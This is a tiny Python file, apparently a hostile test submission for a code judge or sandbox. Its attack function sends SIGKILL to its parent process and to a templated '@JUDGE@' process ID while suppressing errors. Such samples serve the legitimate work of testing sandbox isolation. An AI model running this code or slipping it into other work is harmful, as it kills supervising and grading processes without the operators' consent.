"""Kills whoever started it."""

import contextlib
import os
import signal


def attack():
    for victim in (os.getppid(), int("@JUDGE@")):
        with contextlib.suppress(OSError):
            os.kill(victim, signal.SIGKILL)
